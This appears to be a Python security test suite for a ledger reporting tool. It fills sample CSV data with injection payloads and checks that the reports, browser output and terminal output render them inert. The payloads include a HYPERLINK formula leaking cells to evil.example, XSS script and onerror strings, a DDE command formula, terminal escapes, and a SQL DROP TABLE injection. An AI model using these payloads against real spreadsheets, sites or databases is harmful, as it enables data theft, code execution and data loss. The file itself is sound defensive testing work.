"""A ledger whose every text is an attack: it stays text in each file, in the browser and on the terminal."""

import csv
import os
import re
import shutil
import subprocess
import tempfile
import unittest
from html.parser import HTMLParser
from pathlib import Path

import polars as pl
from playwright.sync_api import sync_playwright

from outputs.browser import FLAGS
from outputs.runs import AS_OF, BINARY, ROOT, arrears, demo_run, scratch

SAMPLE = ROOT / "datasets" / "sample-nl"
# A formula, markup, an attribute's end, a command of the terminal, a text that turns round, a template, a link.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"pay here")',
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd",
    "\x1b[31mred\x1b]0;title\x07",
    "\u202egnp.exe",
    "{{7*7}} ${7*7} {% x %}",
    "[link](javascript:alert(3)) `code` | cell",
    "+31 20 555; DROP TABLE customers; --",
]
# What a person may type; ids keep their own text, so that tables still refer to each other.
TEXTS = {
    "customers.csv": ["Naam", "Branche", "Grootteklasse", "Bedrijfsmodel", "Land", "Accountmanager", "Contactpersoon", "E-mail"],
    "disputes.csv": ["Reden"],
    "reminders.csv": ["Kanaal"],
    "signals.csv": ["Omschrijving"],
    "invoices.csv": ["Betaalwijze"],
}
IDS = ["Debiteurnr", "Factuurnr"]


def poisoned(folder: Path) -> None:
    """The sample ledger with an attack in every text and behind every id, and a few rows that cannot be read."""
    for source in SAMPLE.glob("*.csv"):
        with source.open(encoding="utf-8", newline="") as file:
            header, *rows = csv.reader(file, delimiter=";")
        for number, row in enumerate(rows):
            for column in TEXTS.get(source.name, []):
                row[header.index(column)] = ATTACKS[number % len(ATTACKS)]
            for column in IDS:
                if column in header and row[header.index(column)]:
                    value = row[header.index(column)]
                    row[header.index(column)] = "=<b>" + value
        if source.name == "invoices.csv":
            for row, attack in zip(rows[50:], ATTACKS):
                row[header.index("Bedrag")] = attack
        with (folder / source.name).open("w", encoding="utf-8", newline="") as file:
            csv.writer(file, delimiter=";").writerows([header, *rows])
    for name in ("arrears.toml", "policy.toml"):
        shutil.copy(SAMPLE / name, folder / name)


class Elements(HTMLParser):
    """Names of the elements, their attributes, and how often there is a script."""

    def __init__(self):
        super().__init__()
        self.names, self.handlers = set(), []

    def handle_starttag(self, tag, attrs):
        self.names.add(tag)
        self.handlers += [name for name, _ in attrs if name.startswith("on")]
        self.handlers += [value for name, value in attrs if name in ("href", "src") and "javascript:" in (value or "")]


class Hostile(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.folder = Path(tempfile.mkdtemp(prefix="hostile-", dir=scratch()))
        poisoned(cls.folder)
        cls.out = cls.folder / "run"
        cls.said = arrears("run", "-c", "arrears.toml", "--as-of", AS_OF, "--out", "run", folder=cls.folder)
        cls.checked = arrears("check", "-c", "arrears.toml", folder=cls.folder)

    def test_the_rows_that_cannot_be_read_are_all_told(self):
        with (self.out / "rejected_rows.csv").open(encoding="utf-8", newline="") as file:
            rows = list(csv.DictReader(file))
        amounts = [row for row in rows if row["column"] == "Bedrag"]
        self.assertEqual(len(amounts), len(ATTACKS))

    def test_no_cell_of_a_csv_is_a_formula(self):
        files = [*self.out.rglob("*.csv"), *self.folder.glob("rejected_rows.csv")]
        self.assertGreaterEqual(len(files), 2)
        for path in files:
            with path.open(encoding="utf-8", newline="") as file:
                for row in csv.reader(file):
                    for cell in row:
                        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                            self.assertRegex(cell, r"^[-+]?[\d.,]+$", path.name)

    def test_the_page_has_no_element_of_the_ledgers(self):
        found, clean = Elements(), Elements()
        found.feed((self.out / "report.html").read_text(encoding="utf-8"))
        clean.feed((demo_run() / "report.html").read_text(encoding="utf-8"))
        self.assertEqual(found.names - clean.names, set())
        self.assertEqual(found.handlers, [])

    def test_the_browser_runs_nothing_of_the_ledgers(self):
        with sync_playwright() as playwright:
            profile = tempfile.mkdtemp(prefix="profile-", dir=scratch())
            browser = playwright.chromium.launch_persistent_context(
                profile, executable_path=os.environ["ARREARS_CHROMIUM"], headless=True, args=FLAGS
            )
            page = browser.new_page()
            seen = []
            page.on("dialog", lambda dialog: (seen.append(dialog.message), dialog.dismiss()))
            page.on("console", lambda message: seen.append(message.text))
            page.on("request", lambda request: seen.append(request.url))
            address = (self.out / "report.html").as_uri()
            page.goto(address, wait_until="load")
            page.wait_for_timeout(300)
            browser.close()
        self.assertEqual([what for what in seen if what != address and not what.startswith("data:")], [])

    def test_the_model_card_has_no_markup_of_the_ledgers(self):
        card = (self.out / "model_card.md").read_text(encoding="utf-8")
        self.assertNotIn("<", card)
        self.assertNotRegex(card, r"(?<!\\)\]\(javascript")

    def test_nothing_said_commands_the_terminal(self):
        for said in (self.said, self.checked):
            for stream in (said.stdout, said.stderr):
                self.assertEqual(re.findall(r"[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", stream), [])

    def test_frames_keep_the_text_as_it_is(self):
        segments = pl.read_parquet(self.out / "segments.parquet")
        ids = segments["customer_id"].to_list()
        self.assertTrue(ids and all(value.startswith("=<b>") for value in ids), ids[:3])

    def test_files_with_hostile_names_are_named_and_nothing_more(self):
        folder = Path(tempfile.mkdtemp(prefix="names-", dir=scratch()))
        for name in ("=cmd.csv", "<b>.csv", "\x1b[31m.csv", "-rf.csv", "a b;c.csv"):
            (folder / name).write_bytes((SAMPLE / "invoices.csv").read_bytes())
            done = subprocess.run([BINARY, "read", "--", name], cwd=folder, capture_output=True, text=True)
            self.assertEqual(done.returncode, 0, done.stderr)
            self.assertNotIn("\x1b", done.stdout + done.stderr)


if __name__ == "__main__":
    unittest.main()
